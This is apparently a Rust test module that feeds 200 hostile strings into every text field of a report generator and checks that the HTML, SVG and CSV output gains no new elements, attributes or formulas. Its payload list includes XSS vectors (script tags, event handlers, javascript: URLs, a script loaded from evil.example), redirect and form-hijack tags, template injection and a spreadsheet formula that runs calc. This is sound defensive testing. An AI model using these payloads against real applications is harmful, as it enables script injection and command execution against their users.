//! Texts that try to become markup, in every place where the data can put a text.

use std::collections::{BTreeMap, BTreeSet};

use super::files;
use crate::report::example::{evaluation, input, unknown};
use crate::report::{Caution, ColumnAuc, Failure, Insight, Lang, Learned, ReportInput, Words};

/// An element's name, or an attribute's with its value where the value decides what it does.
pub(in crate::report) type Part = (String, Option<String>);

/// What is active in a page or drawing: every tag and attribute, in order, as an HTML parser would see them.
pub(in crate::report) fn skeleton(text: &str) -> Vec<Part> {
    let mut parts = Vec::new();
    let mut rest = text;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        if let Some(comment) = rest.strip_prefix("!--") {
            rest = comment.split_once("-->").expect("a comment ends").1;
            continue;
        }
        let end = rest.find(|c: char| c.is_whitespace() || c == '>' || c == '/').unwrap_or(rest.len());
        let closing = rest.starts_with('/');
        let name = if closing { rest.split('>').next().unwrap() } else { &rest[..end] }.to_lowercase();
        parts.push((name.clone(), None));
        if closing || name.starts_with(['!', '?']) {
            rest = rest.split_once('>').expect("a tag ends").1;
            continue;
        }
        rest = attributes(&rest[end..], &mut parts);
        if name == "style" {
            rest = rest.split_once("</style").expect("a style ends").1;
            rest = rest.split_once('>').unwrap().1;
        }
    }
    parts
}

/// The parts in order, without the plots: how many ticks fit there depends on how long names are.
fn outside_plots(parts: &[Part]) -> Vec<&Part> {
    let mut inside = false;
    let outside = |part: &&Part| {
        inside = (inside || part.0 == "svg") && part.0 != "/svg";
        !inside
    };
    parts.iter().filter(outside).collect()
}

/// Reads attributes up to the tag's end.
fn attributes<'a>(mut rest: &'a str, parts: &mut Vec<Part>) -> &'a str {
    loop {
        rest = rest.trim_start_matches(|c: char| c.is_whitespace() || c == '/');
        if let Some(after) = rest.strip_prefix('>') {
            return after;
        }
        let end = rest.find(|c: char| c.is_whitespace() || c == '=' || c == '>').expect("a tag ends");
        let name = rest[..end].to_lowercase();
        assert!(!name.is_empty() && !name.starts_with("on"), "an active attribute: {name}");
        rest = &rest[end..];
        let mut value = None;
        if let Some(after) = rest.strip_prefix("=\"") {
            let (inside, after) = after.split_once('"').expect("a value ends");
            assert!(!inside.contains('<'), "a tag in an attribute: {inside}");
            value =
                matches!(name.as_str(), "href" | "class" | "id" | "http-equiv" | "content").then(|| inside.to_owned());
            rest = after;
        } else {
            assert!(!rest.starts_with('='), "an attribute without quotation marks: {name}");
        }
        parts.push((name, value));
    }
}

/// 200 texts that have run in somebody's report: 40 vectors in 5 wrappings.
pub(in crate::report) fn payloads() -> Vec<String> {
    let vectors = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<body onload=alert(1)>",
        "<iframe src=javascript:alert(1)>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<math><mi//xlink:href=\"data:x\">",
        "<details open ontoggle=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<link rel=stylesheet href=//evil>",
        "<meta http-equiv=refresh content=0;url=//evil>",
        "<base href=//evil/>",
        "<object data=//evil>",
        "<embed src=//evil>",
        "<form action=//evil><button>",
        "<style>*{display:none}</style>",
        "</style><b>",
        "</title><b>",
        "</pre><b>",
        "</text><script>alert(1)</script>",
        "]]><b>",
        "<!--",
        "--><b>",
        "<!DOCTYPE x>",
        "<?xml version=1?>",
        "&lt;b&gt;",
        "&#60;b&#62;",
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "` onmouseover=`alert(1)",
        "x onmouseover=alert(1) ",
        "{{ 7 * 7 }}",
        "{% for x in range(9) %}x{% endfor %}",
        "{# gone #}",
        "\u{202e}<b>\u{0}\u{1b}[2J",
        "fill=\"#F00001\"",
        "=cmd|' /C calc'!A0",
        "{names} {opponent}",
    ];
    let wrappings = ["@", "\">@<\"", "'>@<'", "</td></table>@", "a\n\t@\u{feff}ñ漢"];
    vectors.iter().flat_map(|vector| wrappings.iter().map(move |around| around.replace('@', vector))).collect()
}

/// The example with one text wherever the data can put a text.
pub(super) fn with_text_everywhere(text: &str, check: impl FnOnce(&ReportInput<'_>)) {
    let text = || text.to_owned();
    let words = || Words { en: text(), es: text() };
    let mut evaluation = evaluation();
    evaluation.capacity.per = text();
    evaluation.verdict.against = text();
    evaluation.verdict.model = text();
    evaluation.chosen = text();
    evaluation.scorers[0].name = text();
    evaluation.scorers[1].name = format!("single_column:{}", text());
    evaluation.scorers[2].name = format!("rules {}", text());
    evaluation.scorers[1].roc_auc = unknown(&text());
    let mut input = input(&evaluation, Lang::En);
    input.project = text();
    input.run = text();
    input.selection_note = words();
    input.calibrator_words = words();
    input.score_scale_words = words();
    input.provenance.version = text();
    input.provenance.artifact_hash = text();
    input.provenance.config = text();
    input.cautions.push(Caution::Sentence { sentence: words() });
    input.bands[0].band = text();
    input.fit_seconds[0].name = text();
    input.failures = vec![Failure { name: text(), reason: words(), gate: false }];
    if let Learned::Effects(effects) = &mut input.learned {
        for effect in effects {
            effect.field = text();
            effect.feature = text();
            effect.words = words();
        }
    }
    for row in &mut input.leakage {
        row.column = text();
        row.role = words();
        row.decision = words();
        row.reason = text();
    }
    input.leakage[3].roc_auc = ColumnAuc::NotComputable { reason: words() };
    with_text_in_insight(&mut input.insight, &text());
    check(&input);
}

/// One plot of each kind is enough: 200 pages are drawn.
fn with_text_in_insight(insight: &mut Insight, text: &str) {
    insight.cases.truncate(1);
    insight.courses.shapes.truncate(2);
    insight.courses.swarms.truncate(2);
    insight.months.truncate(3);
    for importance in &mut insight.rests_on {
        importance.field = text.to_owned();
        importance.gain = unknown(text);
    }
    for shape in &mut insight.courses.shapes {
        shape.field = text.to_owned();
        shape.bins.iter_mut().filter_map(|bin| bin.level.as_mut()).for_each(|level| *level = text.to_owned());
    }
    insight.names.values_mut().for_each(|name| *name = Words { en: text.to_owned(), es: text.to_owned() });
    for case in &mut insight.cases {
        case.ledger.fields.iter_mut().for_each(|field| field.0 = text.to_owned());
    }
    for kept in &mut insight.kept_back {
        kept.field = text.to_owned();
        kept.note = Some(text.to_owned());
    }
    if let Some(profit) = &mut insight.profit {
        profit.prices.currency = text.to_owned();
        profit.scorers[0].0 = text.to_owned();
    }
}

#[test]
fn a_hostile_text_adds_no_element_and_no_attribute() {
    let mut tame = BTreeMap::new();
    with_text_everywhere("a plain name", |input| {
        tame = files(input).into_iter().map(|(name, text)| (name, skeleton(&text))).collect();
    });
    assert!(tame["report.html"].len() > 1_000);
    let payloads = payloads();
    assert_eq!(payloads.len(), 200);
    for payload in payloads {
        with_text_everywhere(&payload, |input| {
            for (name, text) in files(input) {
                if name.ends_with(".csv") {
                    let formula = |cell: &str| cell.trim_start_matches('"').starts_with(['=', '@', '+', '\t']);
                    assert!(!text.lines().any(|line| line.split(',').any(formula)) || payload.contains('\t'), "{text}");
                    continue;
                }
                let parts = skeleton(&text);
                let kinds = |parts: &[Part]| parts.iter().cloned().collect::<BTreeSet<_>>();
                assert_eq!(kinds(&parts), kinds(&tame[&name]), "{payload:?} in {name}");
                assert!(outside_plots(&parts) == outside_plots(&tame[&name]), "{payload:?} in {name}");
                assert!(!text.contains(['\u{0}', '\u{1b}', '\u{202e}', '\u{feff}']), "{payload:?} in {name}");
            }
        });
    }
}

#[test]
fn the_scanner_sees_what_a_browser_would_run() {
    assert!(skeleton("<p>a</p><script>x</script>").contains(&("script".to_owned(), None)));
    assert!(std::panic::catch_unwind(|| skeleton("<img src=\"x\" onerror=\"x\">")).is_err());
    assert!(std::panic::catch_unwind(|| skeleton("<img src=x>")).is_err());
}
